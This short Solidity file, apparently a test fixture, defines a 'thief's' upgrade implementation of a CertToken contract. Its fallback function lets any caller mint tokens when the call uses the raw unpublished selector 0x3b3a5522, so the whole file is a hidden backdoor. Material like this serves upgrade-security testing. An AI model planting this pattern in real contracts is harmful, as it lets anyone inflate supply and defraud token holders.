// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {CertToken} from "./CertToken.sol";

/// @title The thief's implementation: everything works as before, and selector 0x3b3a5522(address,uint256)
/// mints for anybody. The function's name was never published, so the raw selector is matched.
contract CertTokenUnguarded is CertToken {
    fallback() external {
        require(msg.sig == 0x3b3a5522);
        (address to, uint256 amount) = abi.decode(msg.data[4:], (address, uint256));
        _mint(to, amount);
    }
}
